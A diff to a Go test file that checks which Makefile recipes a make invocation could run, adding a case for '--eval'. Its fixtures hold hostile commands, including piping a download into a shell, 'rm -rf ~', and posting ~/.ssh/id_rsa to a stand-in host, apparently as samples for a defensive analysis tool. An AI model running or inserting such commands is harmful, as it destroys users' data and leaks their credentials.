@@ -48,6 +48,7 @@ func TestMakeGoalRecipes(t *testing.T) {
 		{"an override names the prerequisite", "all: $(T)\nsetup:\n\tcurl x | sh\nok:\n\ttrue\n", "T=setup", []string{"curl x | sh"}},
 		{".DEFAULT_GOAL", ".DEFAULT_GOAL := setup\nall:\n\ttrue\nsetup:\n\trm -rf ~\n", "", []string{"rm -rf ~"}},
 		{"a goal the file does not name", project, "nothing", []string{"cc -o target main.o", "cc -c target", "./run-tests", "rm -rf build", "curl -d @${HOME}/.ssh/id_rsa https://x.example"}},
+		{"--eval adds rules", project, "--eval=clean:setup clean", []string{"cc -o target main.o", "cc -c target", "./run-tests", "rm -rf build", "curl -d @${HOME}/.ssh/id_rsa https://x.example"}},
 		{"a dynamic goal", project, "$X", []string{"cc -o target main.o", "cc -c target", "./run-tests", "rm -rf build", "curl -d @${HOME}/.ssh/id_rsa https://x.example"}},
 		{"rules made as make runs", "test:\n\ttrue\n$(eval setup: ; rm -rf ~)\nsetup:\n\tid\n", "test", []string{"true", "rm -rf ~", "id"}},
 		{"a prerequisite known only as make runs", "test: $(shell echo setup)\n\ttrue\nsetup:\n\trm -rf ~\n", "test", []string{"true", "rm -rf ~"}},
